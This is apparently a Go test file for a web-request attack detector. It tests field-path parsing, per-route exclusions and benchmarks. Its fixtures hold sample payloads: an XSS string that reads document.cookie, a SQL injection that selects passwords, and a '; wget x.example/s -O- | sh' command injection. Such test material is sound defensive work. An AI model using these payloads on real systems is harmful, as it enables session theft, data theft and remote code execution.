package payload

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/warden-dev/warden/abuse"
	"github.com/warden-dev/warden/internal/cputime"
	"github.com/warden-dev/warden/internal/race"
)

func TestParseFieldPath(t *testing.T) {
	tests := []struct {
		in   string
		want string // String() of the result; "" = error
		err  string
	}{
		{in: "title", want: "title"},
		{in: "comments[].text", want: "comments[].text"},
		{in: "messages[].content[].text", want: "messages[].content[].text"},
		{in: "[].id", want: "[].id"},
		{in: "[][]", want: "[][]"},
		{in: "a.*.c", want: "a.*.c"},
		{in: "*", want: "*"},
		{in: "items[].*", want: "items[].*"},
		{in: "grid[][]", want: "grid[][]"},
		{in: "a-b_c:d", want: "a-b_c:d"},
		{in: "", err: "empty field path"},
		{in: "a..b", err: "empty segment"},
		{in: ".a", err: "empty segment"},
		{in: "a.", err: "empty segment"},
		{in: "a[", err: "'[' at byte 1"},
		{in: "a[0]", err: "'[' at byte 1"},
		{in: "a]", err: "']' at byte 1"},
		{in: "a[]b", err: "'.' expected"},
		{in: "a.b*", err: "'*' must be a whole segment"},
		{in: "[]", want: "[]"},
		{in: strings.Repeat("a.", 40) + "a", err: "more than 32 segments"},
		{in: strings.Repeat("a", 300), err: "longer than"},
	}
	for _, tc := range tests {
		p, err := parseFieldPath(tc.in)
		switch {
		case tc.err != "":
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("parseFieldPath(%q) = %v, %v; want error %q", tc.in, p, err, tc.err)
			}
		case err != nil:
			t.Errorf("parseFieldPath(%q): %v", tc.in, err)
		case p.String() != tc.want:
			t.Errorf("parseFieldPath(%q) = %q, want %q", tc.in, p.String(), tc.want)
		}
	}
}

// stackOf builds the walker's path stack for a path without "*", as the
// walker would while inside it.
func stackOf(p fieldPath) *fieldStack {
	var f fieldStack
	for _, s := range p {
		f.push(s.kind == segElem)
		if s.kind == segKey {
			f.key([]byte(s.name))
		}
	}
	return &f
}

func TestFieldStackMatch(t *testing.T) {
	tests := []struct {
		pattern, path string
		want          bool
	}{
		{"comments[].text", "comments[].text", true},
		{"comments[].text", "comments[].author", false},
		{"comments[].text", "comments.text", false},
		{"comments", "comments[]", true},
		{"comments", "comments[][]", true},
		{"comments", "comments[].text", false},
		{"messages[].content", "messages[].content[].text", false},
		{"messages[].content[].text", "messages[].content[].text", true},
		{"a.*.c", "a.b.c", true},
		{"a.*.c", "a[].c", true},
		{"a.*.c", "a.b.d", false},
		{"a.*", "a.b.c", false},
		{"title", "title", true},
		{"title", "post.title", false},
		{"[].id", "[].id", true},
	}
	for _, tc := range tests {
		p, err := parseFieldPath(tc.pattern)
		if err != nil {
			t.Fatal(err)
		}
		path, err := parseFieldPath(tc.path)
		if err != nil {
			t.Fatal(err)
		}
		f := stackOf(path)
		if f.String() != tc.path {
			t.Errorf("stack of %q reads %q", tc.path, f.String())
		}
		if got := f.match(p); got != tc.want {
			t.Errorf("%q matches %q: %v, want %v", tc.pattern, tc.path, got, tc.want)
		}
	}
}

func TestFieldStackBounds(t *testing.T) {
	p, _ := parseFieldPath("*")
	var f fieldStack
	f.push(false)
	f.key([]byte(strings.Repeat("k", maxFieldBytes+1)))
	if f.match(p) {
		t.Error("a key too long to keep matched")
	}
	f.key([]byte("k"))
	if !f.match(p) {
		t.Error("the next key of the object did not match")
	}
	f.reset()
	deep, _ := parseFieldPath("a" + strings.Repeat("[]", maxFieldDepth-1))
	for range maxFieldDepth + 3 {
		f.push(true)
	}
	if f.match(deep) || f.String() != "" {
		t.Error("a path past maxFieldDepth matched")
	}
	for range 3 {
		f.pop()
	}
	all, _ := parseFieldPath(strings.TrimSuffix(strings.Repeat("[]", maxFieldDepth), ""))
	if !f.match(all) {
		t.Errorf("back within maxFieldDepth, %q does not match %q", f.String(), all)
	}
}

// FuzzFieldPath checks that a path that parses prints back to itself,
// that the walker's stack of the same path matches it, and that
// patterns never match a path of other length or keys.
func FuzzFieldPath(f *testing.F) {
	for _, s := range []string{"title", "comments[].text", "messages[].content[].text", "[].id", "a.*.c", "a..b", "a[", "a[0]", "*", "[][]", "a]b", "x.y[][].z"} {
		f.Add(s, "q")
	}
	f.Fuzz(func(t *testing.T, pattern, name string) {
		p, err := parseFieldPath(pattern)
		if err != nil {
			return
		}
		if len(p) == 0 || len(p) > maxFieldDepth {
			t.Fatalf("%q parsed to %d segments", pattern, len(p))
		}
		if again, err := parseFieldPath(p.String()); err != nil || again.String() != p.String() {
			t.Fatalf("%q prints as %q, which parses to %v, %v", pattern, p.String(), again, err)
		}
		concrete := make(fieldPath, len(p))
		for i, s := range p {
			if s.kind == segAny {
				s = fieldSeg{kind: segKey, name: name}
			}
			concrete[i] = s
		}
		st := stackOf(concrete)
		if !st.match(p) {
			t.Fatalf("%q does not match its own path %q", pattern, st.String())
		}
		st.push(false)
		st.key([]byte("x"))
		if st.match(p) {
			t.Fatalf("%q matches a key below it, %q", pattern, st.String())
		}
		p.matchName([]byte(name)) // must not panic
	})
}

func exclusionDetector(t testing.TB, xs ...Exclusion) *Detector {
	t.Helper()
	cfg := DefaultConfig()
	cfg.Exclusions = xs
	d, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestExclusions(t *testing.T) {
	d := exclusionDetector(t,
		Exclusion{Route: "POST /api/posts", Fields: []string{"body", "comments[].text"}, Classes: []string{"xss", "command_injection"}},
		Exclusion{Route: "POST /api/posts", Fields: []string{"meta.*"}, Classes: []string{"sqli"}},
		Exclusion{Route: "/api/snippets/{id}", Fields: []string{"code"}},
		Exclusion{Route: "PUT /api/pages/{id}", Classes: []string{"xss"}},
		Exclusion{Route: "GET /search", Fields: []string{"q"}, Classes: []string{"sqli"}},
	)
	const (
		xss   = "<script>alert(document.cookie)</script>"
		sqli  = "1' UNION SELECT password FROM users--"
		shell = "; wget x.example/s -O- | sh"
	)
	form := func(method, path, body string) *abuse.Request {
		return postTo(method, path, "", "application/x-www-form-urlencoded", body)
	}
	js := func(method, path, body string) *abuse.Request {
		return postTo(method, path, "", "application/json", body)
	}
	multi := func(path, name, value string) *abuse.Request {
		body := "--b\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n--b--\r\n"
		return postTo("POST", path, "", "multipart/form-data; boundary=b", body)
	}
	tests := []struct {
		name      string
		req       *abuse.Request
		violation string // "" = nothing reported
	}{
		{"json field, excluded class", js("POST", "/api/posts", `{"title":"t","body":"`+xss+`"}`), ""},
		{"json field, other excluded class", js("POST", "/api/posts", `{"body":"`+shell+`"}`), ""},
		{"json field, other class", js("POST", "/api/posts", `{"body":"`+sqli+`"}`), "sqli"},
		{"json other field", js("POST", "/api/posts", `{"title":"`+xss+`"}`), "xss"},
		{"json nested field of the same name", js("POST", "/api/posts", `{"post":{"body":"`+xss+`"}}`), "xss"},
		{"json array field", js("POST", "/api/posts", `{"comments":[{"text":"ok"},{"text":"`+xss+`"}]}`), ""},
		{"json array other key", js("POST", "/api/posts", `{"comments":[{"text":"ok","author":"`+xss+`"}]}`), "xss"},
		{"json wildcard", js("POST", "/api/posts", `{"meta":{"a":"`+sqli+`","b":"`+sqli+`"}}`), ""},
		{"json wildcard, other class", js("POST", "/api/posts", `{"meta":{"a":"`+xss+`"}}`), "xss"},
		{"json key itself inspected", js("POST", "/api/posts", `{"meta":{"`+sqli+`":"x"}}`), "sqli"},
		{"other method", js("PUT", "/api/posts", `{"body":"`+xss+`"}`), "xss"},
		{"other route", js("POST", "/api/comments", `{"body":"`+xss+`"}`), "xss"},
		{"form field", form("POST", "/api/posts", "body="+strings.ReplaceAll(xss, " ", "+")), ""},
		{"form other field", form("POST", "/api/posts", "title="+strings.ReplaceAll(xss, " ", "+")), "xss"},
		{"multipart field", multi("/api/posts", "body", xss), ""},
		{"multipart other field", multi("/api/posts", "title", xss), "xss"},
		{"query field", get("/search?q=" + strings.ReplaceAll(sqli, " ", "+")), ""},
		{"query other field", get("/search?sort=" + strings.ReplaceAll(sqli, " ", "+")), "sqli"},
		{"query field, other class", get("/search?q=" + strings.ReplaceAll(xss, " ", "+")), "xss"},
		{"every class of a field", js("POST", "/api/snippets/7", `{"code":"`+shell+`","lang":"sh"}`), ""},
		{"every class, other field", js("POST", "/api/snippets/7", `{"lang":"`+shell+`"}`), "command_injection"},
		{"route-wide class", js("PUT", "/api/pages/3", `{"html":"`+xss+`"}`), ""},
		{"route-wide class, in the query", get("/api/pages/3?x=" + strings.ReplaceAll(xss, " ", "+")), "xss"},
		{"route-wide class, query on the route", &abuse.Request{Method: "PUT", Path: "/api/pages/3", RawQuery: "x=" + strings.ReplaceAll(xss, " ", "+")}, ""},
		{"route-wide, other class", js("PUT", "/api/pages/3", `{"html":"`+sqli+`"}`), "sqli"},
		{"escaped path segment", js("POST", "/api/snippets/a%2Fb", `{"code":"`+shell+`"}`), ""},
		{"escaped literal", js("POST", "/api/%70osts", `{"body":"`+xss+`"}`), ""},
		{"escaped slash is not a separator", js("POST", "/api%2Fposts", `{"body":"`+xss+`"}`), "xss"},
		{"unclean path matches its clean form", js("POST", "/api//posts", `{"body":"`+xss+`"}`), ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := d.Detect(context.Background(), tc.req)
			if v.Violation != tc.violation {
				t.Errorf("violation %q, want %q: %+v", v.Violation, tc.violation, v)
			}
		})
	}
}

// TestExclusionsDoNotLeak checks that what a route's exclusions hide is
// not taken for clean elsewhere: not by the memos of clean values, nor
// by the table of values already inspected in the request.
func TestExclusionsDoNotLeak(t *testing.T) {
	d := exclusionDetector(t,
		Exclusion{Route: "POST /api/pages/{id}", Classes: []string{"xss"}},
		Exclusion{Route: "POST /api/posts", Fields: []string{"body"}, Classes: []string{"xss"}},
	)
	xss := "<script>alert(document.cookie)</script>"
	q := "x=" + strings.ReplaceAll(xss, " ", "+")
	onRoute := &abuse.Request{Method: "POST", Path: "/api/pages/1", RawQuery: q}
	offRoute := &abuse.Request{Method: "GET", Path: "/api/pages/1", RawQuery: q}
	for range 3 {
		if v := d.Detect(t.Context(), onRoute); v.Found() {
			t.Fatalf("excluded class reported: %+v", v)
		}
	}
	if v := d.Detect(t.Context(), offRoute); v.Violation != "xss" {
		t.Fatalf("the same target on another route was taken for clean: %+v", v)
	}
	// The same long value first in an excluded field, then in another.
	var b strings.Builder
	b.WriteString(`{"a":"1","b":"2","c":"3","d":"4","e":"5","f":"6","g":"7","h":"8","i":"9",`)
	b.WriteString(`"body":"` + xss + `","title":"` + xss + `"}`)
	if v := d.Detect(t.Context(), postTo("POST", "/api/posts", "", "application/json", b.String())); v.Violation != "xss" {
		t.Fatalf("a repeat of an excluded field's value was skipped: %+v", v)
	}
}

// TestTrackedWalkAgrees checks that tracking paths changes nothing for a
// request whose rules name no field of its body.
func TestTrackedWalkAgrees(t *testing.T) {
	for _, d := range walkDetectors(t) {
		for _, c := range walkCases {
			checkTrackedAgrees(t, d, []byte(c))
		}
		checkTrackedAgrees(t, d, []byte(jsonBody8K()))
	}
}

func checkTrackedAgrees(t *testing.T, d *Detector, b []byte) {
	t.Helper()
	v1, n1, t1, e1 := walkResult(d, b, false)
	rules := &fieldRules{fields: []fieldRule{{path: fieldPath{{kind: segKey, name: "no such field"}}, mask: everyClass}}}
	s := d.pool.New().(*scan)
	s.fields.rules = rules
	s.json(b)
	if !s.fields.track {
		t.Fatal("walk not tracked")
	}
	if s.values != n1 || s.verdict().Confidence != v1.Confidence || len(s.touched) != len(t1) || s.best != e1 {
		t.Fatalf("%q: tracked walk differs: values %d / %d, signals %v / %v", b, s.values, n1, s.touched, t1)
	}
}

func TestExclusionNoAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("the race detector makes sync.Pool drop items: allocation counts are meaningless")
	}
	d := exclusionDetector(t, Exclusion{Route: "POST /api/posts", Fields: []string{"comments[].text"}, Classes: []string{"xss"}})
	r := postTo("POST", "/api/posts", "", "application/json", `{"title":"Spring sale","comments":[{"text":"A great offer, thanks for the heads-up!","author":"ann"},{"text":"ok","author":"bob"}]}`)
	d.Detect(t.Context(), r)
	if allocs := testing.AllocsPerRun(200, func() { d.Detect(t.Context(), r) }); allocs > 0 {
		t.Fatalf("request with field rules allocated %v times, want 0", allocs)
	}
}

// BenchmarkFieldRules compares a request walked with field rules (a chat
// body whose message text is left to the model; a route with an
// exclusion naming a field) with the same request walked without them.
func BenchmarkFieldRules(b *testing.B) {
	var msgs []any
	for i := range 12 {
		msgs = append(msgs, map[string]any{"role": []string{"user", "assistant"}[i%2],
			"content": fmt.Sprintf("Here is the stack trace from nightly job %d; the retry logic in worker.go looks wrong to me, can you explain line %d?", i, 40+i)})
	}
	chat := marshal(b, map[string]any{"model": "gpt-4o", "temperature": 0.3, "messages": msgs})
	inspect := DefaultConfig()
	inspect.ChatContent = ChatInspect
	excl := DefaultConfig()
	excl.Exclusions = []Exclusion{{Route: "POST /api", Fields: []string{"items[].description"}, Classes: []string{"xss"}}}
	cases := []struct {
		name string
		cfg  Config
		req  *abuse.Request
	}{
		{"chat model", DefaultConfig(), postTo("POST", "/v1/chat/completions", "", "application/json", chat)},
		{"chat inspect", inspect, postTo("POST", "/v1/chat/completions", "", "application/json", chat)},
		{"8KB JSON no rules", DefaultConfig(), post("application/json", jsonBody8K())},
		{"8KB JSON field rule", excl, post("application/json", jsonBody8K())},
	}
	for _, c := range cases {
		d, err := New(c.cfg)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			start := cputime.Process()
			for b.Loop() {
				d.Detect(context.Background(), c.req)
			}
			cputime.Report(b, start)
		})
	}
}

func FuzzTrackedWalk(f *testing.F) {
	for _, c := range walkCases {
		f.Add([]byte(c))
	}
	ds := walkDetectors(f)
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, d := range ds {
			checkTrackedAgrees(t, d, b)
		}
	})
}
